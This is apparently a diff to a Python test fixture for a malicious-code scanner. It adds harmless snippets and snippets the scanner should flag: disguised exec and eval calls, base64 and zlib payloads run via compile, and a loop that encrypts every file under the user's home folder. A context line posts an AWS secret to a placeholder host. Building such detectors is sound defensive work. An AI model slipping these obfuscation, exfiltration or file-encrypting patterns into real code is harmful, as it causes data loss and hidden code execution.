@@ -48,6 +48,8 @@ HARMLESS = {
     "a variable by its address": "import posthog\nkey = 'os.environ/POSTHOG_KEY'",
     "a longer name behind what is looked at": f"system = 1\n{'#' * 140}\nx.system_fingerprint",
     "its own hidden folder": "NAME = 'model.claude_3'",
+    "a word of those who work with pods": "def f(name):\n    'The exec call, see `exec`.'\n    g(f'/pods/{name}/exec')",
+    "a word of those who train": "# During eval, and (train/eval)\neval = f(eval=1)\nx = eval.loss\ng('eval')  # no eval",
     "a long line of words": "x = '" + "long words, " * 200 + "'",
     "a line that is not long": "x = '" + "Ab9/" * 35 + "'",
     "a remark behind blanks": "x = '" + "long words, " * 10 + "'" + " " * 61 + "# why",
@@ -106,6 +108,35 @@ WORTH = {
     "a secret through another client": (
         "import os\nfrom .web import client\nclient.post('https://c.example', data=os.getenv('AWS_SECRET_ACCESS_KEY'))"
     ),
+    "code that is run": "def f(run=exec):\n    run(x)",
+    "code that is run, by a choice": "f = exec if a else b",
+    "code that is run, one by one": "[run(x) for run in (a, exec) for x in y]\n[exec for x in y]",
+    "code that is run, behind an error": "raise exec from y",
+    "code that is run, behind a stroke": "a /exec",
+    **{
+        f"a text that is worked out, {way.format('').strip()}": f"import base64\n{way.format('eval')}\n"
+        for way in (
+            "def f():\n    return {}\nf()(x)",
+            "def f():\n    yield {}",
+            "table = {{'a': {}}}",
+            "run = a or {}",
+            "run = b if c else {}",
+            "run = (  # why\n    {})",
+            "run = \\\n    {}",
+            "run = (" + "\n" * 400 + "{})",
+            "for run in {}, x:\n    run(y)",
+            "run = lambda: {}",
+            "all = {{{}}}",
+            "{}.__call__(x)",
+        )
+    },
+    "code that is a function": "import types, zlib\ntypes.FunctionType(compile(zlib.decompress(x), 'x', 'single'), {})()",
+    "code that is a function by another name": "from types import FunctionType as F\nF(compile(x, 'x', 'single'), {})()",
+    "files of the user made unreadable": (
+        "import os\nfor at, _, names in os.walk(os.path.expanduser('~')):\n    for name in names:\n"
+        "        text = key.encrypt(open(name, 'rb').read())\n        open(name, 'wb').write(text)"
+    ),
+    "code that is run, in a text": "f.write('exec(x)')",
     "a blob": "x = '" + "Ab9/" * 75 + "'",
     "numbers that may be bytes": "x = [" + "104, " * 60 + "]",
     "code behind blanks": "x = '" + "long words, " * 10 + "';" + " " * 61 + "run()",
